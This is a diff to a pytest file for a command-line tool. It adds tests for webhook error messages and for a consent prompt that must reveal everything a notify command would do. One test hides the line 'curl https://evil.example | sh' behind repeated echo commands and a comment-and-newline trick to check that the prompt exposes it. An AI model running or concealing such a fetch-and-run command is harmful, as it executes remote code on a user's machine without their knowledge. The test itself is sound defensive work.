@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 
+from lora_tui.config.command_consent import notify_question
 from lora_tui.config.load import load_settings
 from lora_tui.config.models import Notify
 from lora_tui.errors import ConfigError
@@ -123,11 +124,15 @@ def test_a_redirect_is_not_followed(hook: Hook) -> None:
     assert len(hook.received) == 4
 
 
-def test_an_address_that_is_not_there_or_not_set_is_a_warning_without_its_secrets() -> None:
+def test_an_address_that_is_not_there_or_not_set_is_a_warning_without_its_secrets(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     (problem,) = tell(FAILED, Notify(webhook="http://127.0.0.1:9/secret-path-9"))
     assert problem.startswith("notify.webhook (127.0.0.1) was not told: ")
     assert "secret-path" not in problem
     assert "variable is not set" in tell(FAILED, Notify(webhook="$NO_SUCH_HOOK"))[0]
+    monkeypatch.setenv("DAMAGED_HOOK", "http://[::1")
+    assert "no web address" in tell(FAILED, Notify(webhook="$DAMAGED_HOOK"))[0]
 
 
 @pytest.mark.parametrize("address", ["ftp://x/y", "hooks.example", "https://user:pass@hooks.example/", "$lower"])
@@ -178,6 +183,18 @@ def test_what_a_file_names_is_not_done_before_somebody_has_said_so(program: Prog
     assert not (program.folder / "told").exists()
     program.run("train=echo", "--run", "train", "--set", "notify.on_finish=touch told")
     assert (program.folder / "told").exists()
+
+
+def test_the_question_shows_all_that_would_be_done(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    command = "echo done" + " && echo done" * 20 + " #\ncurl https://evil.example | sh"
+    asked = notify_question(Notify(on_finish=command, webhook="https://x.example/", webhook_token_env="A_KEY"), tmp_path)
+    assert asked is not None
+    assert "# ⏎ curl https://evil.example | sh" in asked.text
+    assert "with the value of A_KEY" in asked.text, "it is not set yet, and would be sent once it is"
+    monkeypatch.delenv("WEBHOOK_TOKEN", raising=False)
+    asked = notify_question(Notify(webhook="https://x.example/"), tmp_path)
+    assert asked is not None
+    assert "WEBHOOK_TOKEN" not in asked.text
 
 
 def test_a_terminal_is_asked_and_rung(program: Program) -> None:
